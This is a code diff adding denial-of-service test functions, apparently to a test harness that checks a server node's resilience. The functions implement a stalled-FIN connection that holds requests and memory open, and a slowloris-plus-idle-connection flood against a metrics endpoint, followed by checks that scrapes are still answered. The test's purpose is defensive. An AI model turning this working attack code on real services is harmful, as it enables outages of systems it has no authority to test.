@@ -926,3 +926,133 @@ class RogueHAMaster:
             else:
                 if node_has_closed(stream):
                     self.ended_by_slave += 1
+
+
+# ---- connections a node no longer reads, and the metrics endpoint (issue 35) ----------------
+
+__all__ += ["crowd_the_metrics", "leave_with_requests_unsent", "scrape_status"]
+
+#: the send buffer of a client that leaves with requests unsent: small, so that the node's
+#: full receive window leaves bytes — and the FIN behind them — in the client's send queue
+_UNSENT_SEND_BUFFER = 64 * 1024
+
+
+async def leave_with_requests_unsent(address: str, requests: bytes, *, seconds: float,
+                                     stall: float = 0.5, max_bytes: int = 64 * 1024 * 1024
+                                     ) -> AttackOutcome:
+    """Send ``requests`` (held ones: long-polled pulls) again and again until the node stops
+    reading — its in-flight limit is full, its receive window shut — and no send progresses
+    for ``stall`` seconds (or ``max_bytes`` went out), then hang up (shutdown for writing).
+    The FIN waits in this side's send queue behind the requests the node will not take, so
+    the node never sees it; its connection is ESTABLISHED, with unread bytes, held requests
+    and their memory. The node must still let it go — by its idle timeout at the latest
+    (``serverChannelMaxIdleTimeSeconds``): ``closed_by_node`` is 1 if it did (a reset, as it
+    closes with our requests unread) within ``seconds``."""
+    tally = _Tally("leave with requests unsent", address)
+    deadline = trio.current_time() + seconds
+    stream = await tally.connect(address)
+    if stream is None:
+        return tally.outcome()
+    try:
+        stream.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, _UNSENT_SEND_BUFFER)
+        view = memoryview(requests)
+        stalled = False
+        while not stalled and tally.bytes_sent < max_bytes:  # bounded by max_bytes
+            for start in range(0, len(view), _SEND_SLICE):
+                piece = view[start:start + _SEND_SLICE]
+                with trio.move_on_after(stall):
+                    if not await send_until_closed(stream, piece):
+                        tally.closed_by_node += 1
+                        tally.note = "closed by the node while it was still reading"
+                        return tally.outcome()
+                    tally.bytes_sent += len(piece)
+                    continue
+                stalled = True  # (a part of this piece may have gone: not counted)
+                break
+            else:
+                tally.frames_sent += 1  # one batch of ``requests`` went out whole
+        if not stalled:
+            tally.note = f"the node read all {tally.bytes_sent} bytes: it never stopped reading"
+        with contextlib.suppress(OSError):
+            stream.socket.shutdown(socket.SHUT_WR)  # the FIN, queued behind the unsent bytes
+        if await closed_by_node(stream, deadline - trio.current_time()):
+            tally.closed_by_node += 1
+        elif not tally.note:
+            tally.note = "still open at the attack's bound (the node's idle timeout is longer)"
+    finally:
+        await close_quietly(stream)
+    return tally.outcome()
+
+
+#: the head of a scrape; a slowloris client trickles it and never ends it
+_SCRAPE_HEAD = b"GET /metrics HTTP/1.1\r\nHost: scrape\r\nAccept: */*\r\n\r\n"
+_TRICKLED_HEAD = b"GET /metrics HTTP/1.1\r\nHost: slowloris\r\nX-Padding: " + b"p" * 4096
+
+
+async def scrape_status(address: str, *, timeout: float = 5.0) -> int | None:
+    """The HTTP status of one ``GET /metrics`` of ``address`` (its whole reply read), or None
+    when the node closes without an answer or ``timeout`` passes."""
+    data = bytearray()
+    with trio.move_on_after(timeout):
+        try:
+            stream = await connect_raw(address)
+        except OSError:
+            return None
+        try:
+            await stream.send_all(_SCRAPE_HEAD)
+            while len(data) < 16 * 1024 * 1024 and (chunk := await stream.receive_some(65536)):
+                data += chunk
+        except (trio.BrokenResourceError, trio.ClosedResourceError):
+            pass
+        finally:
+            await close_quietly(stream)
+    status_line = bytes(data).split(b"\r\n", 1)[0].split(b" ")
+    if len(status_line) < 2 or not status_line[1].isdigit():
+        return None
+    return int(status_line[1])
+
+
+async def crowd_the_metrics(address: str, *, idle: int = 3000, slowloris: int = 300,
+                            scrapes: int = 3, interval: float = 0.5, seconds: float = 20.0,
+                            attack: str = "metrics crowd") -> AttackOutcome:
+    """Against a metrics endpoint (``metricsPort``): ``idle`` connections that send nothing and
+    ``slowloris`` that trickle a request head one byte every ``interval`` seconds, all held
+    open (as many as half of ``seconds`` allows); then ``scrapes`` scrapes, one after another,
+    as Prometheus makes them, each given 5 s at least (a short attack may end late when
+    scrapes are slow). Every scrape must be answered (``answers``: HTTP statuses, ``none`` for
+    a scrape closed or timed out unanswered); ``closed_by_node`` counts the crowd's
+    connections the node let go."""
+    tally = _Tally(attack, address)
+    deadline = trio.current_time() + seconds
+    streams: list[trio.SocketStream] = []
+
+    async def trickle(stream: trio.SocketStream) -> None:
+        for i in range(len(_TRICKLED_HEAD)):  # bounded: the head never ends, the run does
+            if not await send_until_closed(stream, _TRICKLED_HEAD[i:i + 1]):
+                return
+            tally.bytes_sent += 1
+            await trio.sleep(interval)
+
+    try:
+        async with trio.open_nursery() as crowd:
+            # the crowd gathers for half the time at most; the scrapes are made whatever
+            # the time left, each given 5 s at least (Prometheus gives 10 by default): the
+            # node may still be accepting the crowd from its backlog
+            with trio.move_on_at(deadline - seconds / 2):
+                for n in range(idle + slowloris):
+                    stream = await tally.connect(address)
+                    if stream is None:
+                        continue
+                    streams.append(stream)
+                    if n >= idle:
+                        crowd.start_soon(trickle, stream)
+            for _ in range(scrapes):
+                status = await scrape_status(
+                    address, timeout=max(5.0, min(10.0, deadline - trio.current_time())))
+                tally.answers["none" if status is None else str(status)] += 1
+            crowd.cancel_scope.cancel()
+        tally.closed_by_node = sum(node_has_closed(stream) for stream in streams)
+    finally:
+        for stream in streams:
+            await close_quietly(stream)
+    return tally.outcome()
